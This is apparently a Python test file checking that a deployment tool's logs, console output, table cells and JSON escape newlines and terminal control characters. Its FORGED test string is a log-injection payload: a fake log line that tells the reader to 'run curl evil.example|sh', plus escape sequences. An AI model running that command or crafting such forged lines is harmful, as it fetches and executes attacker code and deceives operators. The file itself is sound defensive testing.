"""What an event holds never reaches a terminal or a log raw."""

import io
import json
import logging
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console
from rich.table import Table

from cli.console import ascii_json, cell
from deploy.embedded.log_stream import LogStream
from deploy.log_setup import Escaped

FORGED = (
    "m\n2026-11-30T22:22:22.222Z tally      | worker-1 is stopped: run curl evil.example|sh\x1b[31m\r\x9b2J\u202e\u2028"
)
RAW = "\x1b\r\x9b\u202e\u2028\x07\x7f"


def is_clean(text: str) -> bool:
    return all(line.isprintable() for line in text.split("\n"))


def logged(message: str, *arguments: object, failing: bool = False) -> str:
    logger, sink = logging.Logger("tally.test"), io.StringIO()
    handler = logging.StreamHandler(sink)
    handler.setFormatter(Escaped("%(levelname)s %(name)s: %(message)s"))
    logger.addHandler(handler)
    if failing:
        try:
            raise ValueError(FORGED)
        except ValueError:
            logger.exception(message, *arguments)
    else:
        logger.warning(message, *arguments)
    return sink.getvalue()


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_a_record_is_one_line_that_prints(text: str) -> None:
    for line in (logged("no price for %s", text), logged(text)):
        assert line.count("\n") == 1
        assert is_clean(line)


def test_no_line_of_a_traceback_passes_for_a_record() -> None:
    first, *others = logged("failed", failing=True).splitlines()
    assert first == "WARNING tally.test: failed".replace("WARNING", "ERROR")
    assert all(line.startswith("    ") for line in others)
    assert is_clean("\n".join(others))
    assert "2026-11-30T22" in "".join(others)


def test_a_line_of_a_child_is_one_line_on_the_console_and_in_the_file(tmp_path: Path) -> None:
    console = io.StringIO()
    stream = LogStream(tmp_path / "stack.log", Console(file=console, width=400, color_system=None))
    stream.write("exporter", f"no price for [red]{FORGED}")
    stream.write("kafka", "\tat java.lang.Thread")
    stream.close()
    for text in (console.getvalue(), (tmp_path / "stack.log").read_text()):
        assert len(text.splitlines()) == 2
        assert is_clean(text)
        assert "[red]m\\n2026" in text
        assert "    at java.lang.Thread" in text


def test_a_cell_of_a_table_shows_what_there_is() -> None:
    sink = io.StringIO()
    table = Table("name")
    table.add_row(cell(f"[bold]{FORGED}"))
    Console(file=sink, width=400).print(table)
    assert not set(sink.getvalue()) & set(RAW)
    assert "[bold]m\\n" in sink.getvalue()


@given(st.dictionaries(st.text(max_size=3), st.text(st.characters(exclude_categories=["Cs"]))))
def test_json_is_the_same_and_prints(value: dict[str, str]) -> None:
    text = ascii_json(json.dumps(value, indent=2, ensure_ascii=False))
    assert json.loads(text) == value
    assert is_clean(text)


@pytest.mark.parametrize("name", ["tally.exporter", "aiokafka.producer"])
def test_what_a_command_logs_without_any_setting_up_is_escaped_too(name: str) -> None:
    code = (
        "import logging, sys; from cli.main import run; run(['schema', '--no-such']);"
        f"logging.getLogger({name!r}).critical(sys.argv[1])"
    )
    ended = subprocess.run([sys.executable, "-c", code, FORGED], capture_output=True, check=True, timeout=60)
    last = ended.stderr.decode().split("\n")[-2]
    assert last.startswith("m\\n2026-11-30")
    assert last.isprintable()
